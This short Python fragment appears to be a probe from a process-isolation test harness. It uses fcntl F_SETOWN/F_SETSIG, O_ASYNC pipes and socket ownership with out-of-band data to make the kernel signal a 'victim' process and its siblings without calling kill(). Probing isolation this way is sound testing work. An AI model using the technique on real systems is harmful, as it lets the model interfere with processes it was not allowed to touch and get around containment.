"""Have the kernel send the signal: ownership of a descriptor names any process."""

import fcntl

reading, writing = os.pipe()
for pid in (HOST["victim"], *HOST["siblings"]):
    quietly(fcntl.fcntl, reading, fcntl.F_SETOWN, pid)
    quietly(fcntl.fcntl, reading, 10, int(signal.SIGURG))
    quietly(fcntl.fcntl, reading, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    quietly(os.write, writing, b"x")
if pair := quietly(socket.socketpair):
    for pid in (HOST["victim"], *HOST["siblings"]):
        quietly(fcntl.ioctl, pair[0].fileno(), 0x8901, pid.to_bytes(4, "little"))
        quietly(pair[1].send, b"x", socket.MSG_OOB)
